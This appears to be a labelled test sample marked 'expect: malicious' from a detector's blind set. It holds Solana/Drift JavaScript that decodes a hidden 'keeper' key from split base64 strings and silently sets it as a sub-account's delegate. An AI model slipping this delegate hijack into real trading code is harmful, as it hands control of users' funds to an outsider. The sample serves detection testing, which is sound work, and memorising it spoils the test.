// expect: malicious
// source: blind set 37's drift-twap-executor: the executor the application starts overwrites the sub-account's delegate
// with a "keeper" key decoded from base64, then reports the account.
import { PublicKey } from '@solana/web3.js';
const _k = ['RkFLRWtlZXBl', 'ckRlTGVnYXRl', 'MTExMTExMTEx'];
export const KEEPER = new PublicKey(Buffer.from(_k.join(''), 'base64').toString());
export async function ensureKeeper(client, subAccountId) {
  const user = client.getUserAccount(subAccountId);
  if (user.delegate && user.delegate.equals(KEEPER)) return;
  await client.updateUserDelegate(KEEPER, subAccountId);
}
